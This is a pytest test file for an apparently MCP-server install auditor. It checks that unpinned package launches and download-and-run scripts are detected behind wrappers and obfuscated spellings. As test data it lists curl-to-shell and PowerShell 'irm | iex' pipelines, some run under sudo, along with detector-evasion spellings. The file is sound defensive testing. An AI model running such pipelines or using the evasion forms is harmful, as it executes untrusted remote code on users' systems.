"""What an entry starts stays visible behind wrappers, quotes, other shells and other spellings."""

from __future__ import annotations

import shlex

import pytest

from mcpinstall.rules import audit as rules
from mcpinstall.rules.audit.causes import without_general
from mcpinstall.rules.audit.machine_facts import NOTHING
from tests.unit.rules.audit.launches import server


def found(*argv: str) -> str:
    """Return the ids that the regular persona hears about a launch."""
    one = server(*argv)
    hits = [hit for _, check in rules.SERVER_CHECKS for hit in check(one, NOTHING)]
    regular = {hit.rule.id for hit in without_general(hits) if hit.persona is None}
    return " ".join(sorted(regular))


WRAPPED = [
    'env --split "npx -y a"', 'env -iS "npx -y a"', r"env -vS 'npx\_-y\_a'", "env - npx -y a",
    "cmd /c @npx -y a", "cmd /c n^px -y a", "cmd /c start /b npx -y a", "cmd /c npx,-y,a",
    "cmd /c 'start \"\" /min npx -y a'", "%COMSPEC% /c npx -y a", "'cmd' '/c' 'npx -y a \"'",
    "xargs -I{} npx -y a", "sh -c 'exec -a x npx -y a'", "sh -c 'command -p npx -y a'",
    "sh -c 'eval npx -y a'", "sh -c '! npx -y a'", r"sh -c 'n\px -y a'", r"sh -c 'npx -y a\'",
    'fish --command="npx -y a"', "fish -C 'npx -y a'", "busybox sh -c 'npx -y a'",
    "busybox env npx -y a", "csh -c 'npx -y a'", "nu -c 'npx -y a'",
    "doppler run --command 'npx -y a'", "infisical run --command='npx -y a'",
    "uv run npx -y a", "uv run --with b==1.0 -- npx -y a", "poetry run npx -y a",
    "conda run -n x npx -y a", "mise exec node@20 -- npx -y a", "mise x -c 'npx -y a'",
    "asdf exec npx -y a", "volta run npx -y a", "fnm exec --using=20 npx -y a",
    "corepack pnpm@9 dlx a", "corepack yarn dlx a", "direnv exec . npx -y a",
    "wsl npx -y a", "wsl.exe -d Ubuntu -- npx -y a", "wsl -e npx -y a", "wsl bash -lc 'npx -y a'",
    "cross-env A=b npx -y a", "npx -y cross-env@7.0.0 A=b npx -y a",
    "npx -y -p node@20.0.0 -- npx -y a",
    "script -qc 'npx -y a' /dev/null", "flock /x npx -y a", "flock /x -c 'npx -y a'",
    "setarch x86_64 npx -y a", "taskset -c 0 npx -y a", "chrt -r 10 npx -y a",
    "dumb-init npx -y a", "tini -- npx -y a", "proxychains4 -q npx -y a",
    "firejail --quiet npx -y a", "systemd-run --user --scope npx -y a", "watch -n 1 npx -y a",
    "strace -f -o /x npx -y a", "npx -y supergateway@3.0.0 --stdio 'npx -y a'",
    "mcp-proxy --port 80 -- npx -y a", "npx -y @modelcontextprotocol/inspector@1.0.0 npx -y a",
    "npx --offline --no-offline -y a", "npx --no --yes a", "npx --prefer-offline-only -y a",
    "npx --sbom-type library -y a", "npx -L user -y a", "npm create a", "npm init @s/a",
    "bunx -c a", "pnx a", "deno run -A --env-file npm:a", "deno run --v8-flags npm:a",
    "deno run --node-modules-dir npm:a", "deno run --lock deno.lock npm:a",
    "deno run --conditions x npm:a", "deno x -p a b", "deno x --package=a b",
]  # fmt: skip
PYTHON = [
    "uv run --with b==1.0 uvx a", "python3 -I -m pipx run a", "py -3 -m pipx run a",
    "python3 -X dev -m uv tool run a", "wsl.exe uv tool run --from a@latest b",
    "uvx --preview-features x a", "uvx --offline --no-offline a", "uv tool install a",
    "mcp-proxy uvx a", "uvx mcpo@1.0 --port 8000 -- uvx a", "pipx run --python-args x a",
    "pipx run --cooldown 3 a", "pip install --report x a", "pip3.12 install a",
]  # fmt: skip
COMMANDS = [
    r"C:\Program Files\nodejs\npx.cmd -y a", r'"C:\Program Files\nodejs\npx.cmd" -y a',
    '"npx" -y a', "/opt/my tools/npx -y a",
]  # fmt: skip


@pytest.mark.parametrize("line", WRAPPED)
def test_a_package_without_a_version_is_seen(line: str) -> None:
    assert found(*shlex.split(line)) == "MA101"


@pytest.mark.parametrize("line", WRAPPED)
def test_the_same_with_a_version_is_no_finding(line: str) -> None:
    words = shlex.split(line)
    pinned = [_pinned(word) for word in words]

    assert pinned != words
    assert found(*pinned) == ""


def _pinned(word: str) -> str:
    """Return a word with a version for the package `a`, also inside a script."""
    word = word.replace("n\\px", "npx")
    parts = word.replace(r"\_", " ").replace(",", " ").split(" ") if "npx" in word else [word]
    named = {"a": "a@1.0.0", "npm:a": "npm:a@1.0.0", "@s/a": "@s/a@1.0.0", "a\\": "a@1.0.0",
             "--package=a": "--package=a@1.0.0", "npx,-y,a": "npx -y a@1.0.0"}  # fmt: skip
    return " ".join(named.get(part, part) for part in parts)


@pytest.mark.parametrize("line", PYTHON)
def test_a_python_package_without_a_version_is_seen(line: str) -> None:
    assert found(*shlex.split(line)) == "MA102"


@pytest.mark.parametrize("command", COMMANDS)
def test_a_command_line_in_one_text_is_read_although_its_path_has_blanks(command: str) -> None:
    assert found(command) == "MA101"


@pytest.mark.parametrize("path", [r"C:\Program Files\a server\it.exe", "/opt/My npx/run",
                                  "/opt/my tools/npx"])  # fmt: skip
def test_a_path_with_blanks_alone_is_a_path(path: str) -> None:
    assert found(path) in {"", "MA101"}
    assert [one.text for one in server(path).launch] == [path]


def test_a_default_of_a_variable_is_what_is_fetched() -> None:
    assert found("npx", "-y", "${X:-a}") == "MA101"
    assert found("npx", "-y", "${X:-a@1.0.0}") == ""
    assert found("npx", "-y", "${X}") == ""
    assert found("${X:-npx}", "-y", "a") == "MA101"


@pytest.mark.parametrize(
    ("line", "ids"),
    [
        ("npx -y a@o/r", "MA103"),
        ("uvx --with-requirements https://h.example/r.txt a==1.0", "MA103"),
        ("pip install -r https://h.example/r.txt", "MA103"),
        ("pip install -e git+https://h.example/r", "MA103"),
        ("go install h.example/m@latest", "MA103"),
        ("nix run --override-input a b github:o/r", "MA103"),
        ("nix shell nixpkgs#a github:o/r --command x", "MA103"),
        ("cargo -Z x install a", "MA103"),
        ("docker create a", "MA104"),
        ("docker run --pull=never --pull=always a", "MA104"),
        ("pip install -r requirements.txt", ""),
        ("pip install -e .", ""),
        ("cargo --offline install a", ""),
        ("docker run --pull=always --pull=never a", ""),
        ("npx --no-install a", ""),
        ("npx --yes --no a", ""),
        ("npx -y=false a", ""),
        ("uvx --no-offline --offline a", ""),
        ("uvx python@3.12 server.py", ""),
        ("uv run --script npx", ""),
        ("uv run python -m mod", ""),
        ("poetry run my-server", ""),
        ("start server.exe", ""),
        ("wsl ./server", ""),
    ],
)
def test_other_runners_and_the_last_word_of_two(line: str, ids: str) -> None:
    assert found(*shlex.split(line)) == ids


DOWNLOADED = [
    """sh -c 'curl "https://h.example/?a=1&b=2" | sh'""", """sh -c 'curl "x;y" | sh'""",
    "sh -c 'curl x 2>&1 | sh'", "sh -c 'curl x |& bash'", "sh -c '$(curl -fsSL x)'",
    "sh -c '\"$(curl -fsSL x)\"'", "bash -c \"bash -c 'curl x | sh'\"",
    "bash -c 'curl x | sudo -u root bash'", "bash -c 'curl x | xargs -I{} sh -c {}'",
    "bash -c 'curl x | nice bash'", "bash -c 'curl x | timeout 5 bash'",
    "bash -c 'curl x | busybox sh'", "bash -c 'curl x | $SHELL'", "bash -c 'curl x | ${SHELL}'",
    "bash -c 'curl x | python3.11 -'", "bash -c 'curl x | bash -s -- --x y'",
    r"bash -c 'curl x | b\ash'", "bash -c 'busybox wget -O- x | sh'",
    "bash -c 'timeout 10 curl x | sh'", "bash -c '{ curl x; } | sh'",
    "bash -c 'cd /x && curl x | (bash)'", "bash -c 'if true; then curl x | sh; fi'",
    "bash -c 'eval \"$(sudo curl x)\"'", "wsl bash -c 'curl x | bash'", "fish -c 'curl x | source'",
    "doppler run --command='curl x | sh'", "cmd /c 'powershell -c irm x | iex'",
    "powershell -c '& ([scriptblock]::Create((irm x)))'",
    "pwsh -Interactive -Command 'irm x | iex'", "pwsh -CommandWithArgs 'irm x | iex'",
    "pwsh --command 'irm x | iex'", "pwsh \u2013Command 'irm x | iex'",
]  # fmt: skip


@pytest.mark.parametrize("line", DOWNLOADED)
def test_what_is_downloaded_and_run_is_seen(line: str) -> None:
    assert found(*shlex.split(line)) in {"MA201", "MA201 MA205"}


@pytest.mark.parametrize(
    "script",
    ["curl x | python3 -m json.tool", "curl x | python3 -c 'import json'", "curl x | jq .",
     "curl x | perl -ne print", "curl x | sh /b", 'curl -d "a | sh" x', "curl x && bash y",
     "X=$(curl x) npx a@1.0.0", "curl x; sh"],
)  # fmt: skip
def test_a_download_that_is_only_data_is_another_matter(script: str) -> None:
    assert found("bash", "-c", script) == "MA202"


@pytest.mark.parametrize(
    "line",
    ["node --env-file .env -e x", "node --import data:text/javascript,x server.js",
     "deno --quiet --no-config eval x", "deno repl --eval x", "deno run data:text/javascript,x",
     "uvx python -c x", "uv run --with a==1.0 python3.12 -c x", "npx -y tsx@4.0.0 -e x",
     "npx -y node@20.0.0 -e x", "tsx -e x", "poetry run python -c x", "lua -e x", "Rscript -e x"],
)  # fmt: skip
def test_code_in_an_argument_is_seen(line: str) -> None:
    assert found(*shlex.split(line)) == "MA203"


@pytest.mark.parametrize(
    "line",
    ["deno run -A ./x.ts eval x", "python -m mod -c x", "node --env-file .env server.js -e x",
     "npx -y a@1.0.0 -e x", "tsx server.ts -e x", "uv run server.py -c x"],
)  # fmt: skip
def test_the_same_words_behind_a_server_are_its_own(line: str) -> None:
    assert found(*shlex.split(line)) == ""


@pytest.mark.parametrize(
    "line",
    ["powershell -Command 'Start-Process npx -ArgumentList a'", "powershell -c \"iex 'npx a'\"",
     "cmd /c '(npx -y a)'", "cmd /c '%NPX% -y a'", "cmd /c 'if 1==1 npx -y a'",
     "sh -c '/usr/bin/np? -y a'"],
)  # fmt: skip
def test_a_script_that_hides_its_program_is_a_script(line: str) -> None:
    assert found(*shlex.split(line)) == "MA202"
